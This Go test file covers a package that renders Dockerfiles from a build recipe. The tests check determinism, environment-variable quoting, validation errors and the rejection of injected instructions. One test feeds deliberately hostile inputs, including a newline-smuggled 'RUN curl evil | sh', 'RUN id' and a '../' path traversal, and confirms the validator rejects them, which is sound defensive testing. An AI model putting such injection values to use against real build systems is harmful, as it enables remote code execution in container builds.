package image

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/require"
)

func TestDefaultRecipeMatchesCheckedInDockerfile(t *testing.T) {
	expected, err := os.ReadFile(filepath.Join("..", "..", "build", "runtime", "Dockerfile"))
	require.NoError(t, err)

	actual, err := DefaultRecipe().Dockerfile()
	require.NoError(t, err)

	require.Equal(t, string(expected), string(actual))
}

func TestDockerfileIsDeterministic(t *testing.T) {
	recipe := DefaultRecipe()
	recipe.Env["TOKENIZERS_PARALLELISM"] = "true"
	recipe.Env["ALOG_DEFAULT_LEVEL"] = "info"

	first, err := recipe.Dockerfile()
	require.NoError(t, err)

	for range 10 {
		again, err := recipe.Dockerfile()
		require.NoError(t, err)
		require.Equal(t, first, again)
	}

	require.Contains(
		t,
		string(first),
		"ENV ALOG_DEFAULT_LEVEL=info\nENV CONFIG_FILES=runtime_config.yaml\nENV TOKENIZERS_PARALLELISM=true\n",
	)
}

func TestDockerfileWithoutWorkdir(t *testing.T) {
	recipe := DefaultRecipe()
	recipe.Workdir = ""

	actual, err := recipe.Dockerfile()
	require.NoError(t, err)
	require.NotContains(t, string(actual), "WORKDIR")
	require.Contains(t, string(actual), "FROM python:3.11-slim\n\nCOPY requirements.txt .\n")
}

func TestRecipeValidate(t *testing.T) {
	require.NoError(t, DefaultRecipe().Validate())

	err := Recipe{Workdir: "caikit"}.Validate()
	require.Error(t, err)

	for _, msg := range []string{
		"base image is required",
		"dependency manifest is required",
		"install command is required",
		`workdir must be absolute: "caikit"`,
		"CONFIG_FILES must be set",
		"command is required",
	} {
		require.Contains(t, err.Error(), msg)
	}

	_, err = Recipe{}.Dockerfile()
	require.Error(t, err)
}

func TestDockerfileManifestInSubdirectory(t *testing.T) {
	recipe := DefaultRecipe()
	recipe.Manifest = "deps/requirements.txt"
	recipe.InstallCommand = []string{"pip", "install", "--no-cache-dir", "-r", "deps/requirements.txt"}

	actual, err := recipe.Dockerfile()
	require.NoError(t, err)
	require.Contains(t, string(actual), "COPY deps/requirements.txt deps/\nRUN [\"pip\",\"install\",\"--no-cache-dir\",\"-r\",\"deps/requirements.txt\"]\n")
}

func TestDockerfileEnvQuoting(t *testing.T) {
	recipe := DefaultRecipe()
	recipe.Env["ALOG_FILTERS"] = `a b "c"`
	recipe.Env["EMPTY"] = ""

	actual, err := recipe.Dockerfile()
	require.NoError(t, err)
	require.Contains(t, string(actual), "ENV ALOG_FILTERS=\"a b \\\"c\\\"\"\n")
	require.Contains(t, string(actual), "ENV EMPTY=\"\"\n")
	require.Contains(t, string(actual), "ENV CONFIG_FILES=runtime_config.yaml\n")
}

func TestRecipeRejectsInjectedInstructions(t *testing.T) {
	cases := []struct {
		Name   string
		Modify func(*Recipe)
		Error  string
	}{
		{
			Name:   "multiline env value",
			Modify: func(recipe *Recipe) { recipe.Env[ConfigFilesEnv] = "a.yaml\nRUN curl evil | sh" },
			Error:  `env CONFIG_FILES must be a single line: "a.yaml\nRUN curl evil | sh"`,
		},
		{
			Name:   "env name",
			Modify: func(recipe *Recipe) { recipe.Env["A=B\nRUN"] = "x" },
			Error:  `invalid env name: "A=B\nRUN"`,
		},
		{
			Name:   "multiline base image",
			Modify: func(recipe *Recipe) { recipe.BaseImage = "python\nRUN id" },
			Error:  `base image must be a single line: "python\nRUN id"`,
		},
		{
			Name:   "manifest outside context",
			Modify: func(recipe *Recipe) { recipe.Manifest = "../requirements.txt" },
			Error:  `dependency manifest must be within the build context: "../requirements.txt"`,
		},
	}

	for _, tc := range cases {
		t.Run(tc.Name, func(t *testing.T) {
			recipe := DefaultRecipe()
			tc.Modify(&recipe)

			_, err := recipe.Dockerfile()
			require.ErrorContains(t, err, tc.Error)
		})
	}
}
